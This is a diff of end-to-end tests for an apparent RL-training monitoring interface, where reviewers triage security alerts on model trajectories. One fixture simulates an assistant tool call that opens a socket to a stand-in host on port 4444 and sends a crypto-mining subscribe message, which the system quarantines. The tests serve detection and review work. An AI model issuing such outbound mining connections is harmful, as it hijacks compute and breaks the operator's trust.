@@ -97,13 +97,13 @@ class Trouble(Story):
     def frozen(self, trajectory: str) -> Event:
         _, prompt, member = trajectory.split("-")
         steps_before, group = divmod(int(prompt), self.groups)
-        told = self.trajectory("train", steps_before + 1, group, int(member))
+        stored = self.trajectory("train", steps_before + 1, group, int(member))
         code = 'import socket\ns = socket.create_connection(("203.0.113.7", 4444))\ns.send(b"mining.subscribe")'
-        told["turns"] = [
+        stored["turns"] = [
             self.turn("<user>41 * 17<assistant>", "<tool>print(41 * 17)</tool>", 1, "print(41 * 17)", "697"),
             self.turn("<output>697</output><assistant>", "<tool>import socket ...</tool>", 1, code, "", "frozen"),
         ]
-        return self.told(told | {"stop_reason": "frozen", "success": False, "reward": 0.0, "answer": None,
+        return self.stored(stored | {"stop_reason": "frozen", "success": False, "reward": 0.0, "answer": None,
                                  "masked_because": "quarantined", "alerts": [f"{SANDBOX}/1"]})  # fmt: skip
 
 
@@ -120,8 +120,8 @@ def trouble(web: Web, sample: Sample) -> tuple[Engine, Trouble, Run]:
     run = launch_experiment(sample.experiment, acting_user=sample.owner)
     story = Trouble(steps=30, groups=2, group_size=4, begin_at=time.time() - 60)
     engine = Engine(web, run, story)
-    engine.tell(story.beginning())
-    engine.tell(story.step(1), 1)
+    engine.emit(story.beginning())
+    engine.emit(story.step(1), 1)
     return engine, story, run
 
 
@@ -157,12 +157,12 @@ def test_a_reviewer_follows_an_alert_to_its_turn_and_rules(
     faults = pictures(page, "inbox-empty")
 
     held = "train-2-1"
-    engine.tell([*story.trouble(held, 1), story.alarm(0, held, 1)], 1)
+    engine.emit([*story.trouble(held, 1), story.alarm(0, held, 1)], 1)
     expect(bell).to_have_text("1", timeout=PATIENCE_MS)
     expect(page.locator("tr[data-alert]")).to_have_count(1, timeout=PATIENCE_MS)
-    engine.tell([story.alarm(1, "train-3-0"), story.alarm(2, "train-3-2"), story.alarm(3, "train-3-3")], 1)
+    engine.emit([story.alarm(1, "train-3-0"), story.alarm(2, "train-3-2"), story.alarm(3, "train-3-3")], 1)
     expect(page.locator("tr[data-alert]")).to_have_count(4, timeout=PATIENCE_MS)
-    engine.tell([story.frozen(held)], 2)
+    engine.emit([story.frozen(held)], 2)
     faults += pictures(page, "inbox")
 
     # By keyboard to the oldest alert, and from it to the turn.
@@ -209,7 +209,7 @@ def test_a_reviewer_follows_an_alert_to_its_turn_and_rules(
 
     page.goto(f"{web.url}/runs/{run.id}/?tab=security")
     expect(page.locator("#security .figures")).to_contain_text("244", timeout=PATIENCE_MS)
-    engine.tell(
+    engine.emit(
         [story.event("egress", sandbox="sandbox-2", records=[story.record(1, attempt={"sandbox": "sandbox-2"})])], 2
     )
     expect(page.locator("#security .figure").first).to_contain_text("245", timeout=PATIENCE_MS)
@@ -236,7 +236,7 @@ def test_the_inbox_rules_by_keyboard_and_another_reviewer_sees_it(
     web: Web, rita: User, sample: Sample, trouble: Any, tab: Callable[..., Page], complaints: list[str]
 ) -> None:
     engine, story, _ = trouble
-    engine.tell([story.alarm(0, "train-2-1"), story.alarm(1, "train-3-0")], 1)
+    engine.emit([story.alarm(0, "train-2-1"), story.alarm(1, "train-3-0")], 1)
     hers, his = tab(), tab()
     sign_in(hers, web, rita)
     sign_in(his, web, sample.owner)
@@ -262,7 +262,7 @@ def test_alike_alerts_are_marked_and_decided_together(
     web: Web, rita: User, trouble: Any, tab: Callable[..., Page], complaints: list[str]
 ) -> None:
     engine, story, run = trouble
-    engine.tell(story.alike(120, rule=0) + story.alike(3, rule=1, first=200) + story.alike(1, rule=3, first=300), 1)
+    engine.emit(story.alike(120, rule=0) + story.alike(3, rule=1, first=200) + story.alike(1, rule=3, first=300), 1)
     page = tab()
     sign_in(page, web, rita)
     page.goto(f"{web.url}/alerts/")
@@ -279,7 +279,7 @@ def test_alike_alerts_are_marked_and_decided_together(
     expect(page.locator(".alike-row .main-link")).to_have_count(50, timeout=PATIENCE_MS)
     page.keyboard.press("x")
     expect(page.locator("[data-marked]")).to_have_text("1 row marked: 120 alerts.")
-    engine.tell(story.alike(1, rule=2, first=400), 1)
+    engine.emit(story.alike(1, rule=2, first=400), 1)
     expect(rows).to_have_count(4, timeout=PATIENCE_MS)
     expect(page.locator("[data-marked]")).to_have_text("1 row marked: 120 alerts.")
     expect(page.locator(".alike-row .main-link")).to_have_count(50, timeout=PATIENCE_MS)
@@ -309,8 +309,8 @@ def test_alike_alerts_are_marked_and_decided_together(
     # The page is another one after the decision; its keys are there once its scripts are.
     expect(page.locator("html")).to_have_attribute("data-alerts", "live", timeout=PATIENCE_MS)
     page.keyboard.press("?")
-    for said in ("Mark the alert", "Show all alike", "Rule it benign", "Acknowledge"):
-        expect(page.locator("#keys-dialog")).to_contain_text(said)
+    for shown in ("Mark the alert", "Show all alike", "Rule it benign", "Acknowledge"):
+        expect(page.locator("#keys-dialog")).to_contain_text(shown)
     assert faults == []
     assert complaints == []
 
@@ -320,18 +320,18 @@ def test_the_page_of_an_alert_shows_its_turn_at_once_and_what_the_review_decisio
 ) -> None:
     engine, story, run = trouble
     held = "train-2-1"
-    engine.tell([story.turn_of_alert(held, 1), *story.trouble(held, 1), story.alarm(0, held, 1)], 1)
+    engine.emit([story.turn_of_alert(held, 1), *story.trouble(held, 1), story.alarm(0, held, 1)], 1)
     page = tab()
     sign_in(page, web, rita)
     page.goto(f"{web.url}/alerts/{Alert.objects.get().id}/")
     expect(page.locator("#turn-card")).to_contain_text("under way")
     faults = pictures(page, "alert-fresh")
-    engine.tell([story.turn_of_alert(held, 1, output="stopped by alert mining-stratum", error_class="frozen")], 1)
+    engine.emit([story.turn_of_alert(held, 1, output="stopped by alert mining-stratum", error_class="frozen")], 1)
     expect(page.locator("#turn-card")).to_contain_text("stopped by alert mining-stratum", timeout=PATIENCE_MS)
     page.keyboard.press("1")
     page.keyboard.press("Enter")
     expect(page.locator("[data-effect]")).to_contain_text("takes effect in the run's next step", timeout=PATIENCE_MS)
-    engine.tell([story.frozen(held), story.settled(held)], 3)
+    engine.emit([story.frozen(held), story.settled(held)], 3)
     page.reload()
     expect(page.locator("[data-effect]")).to_contain_text("Trained on at step 3, advantage +0.7")
     faults += pictures(page, "alert-settled")
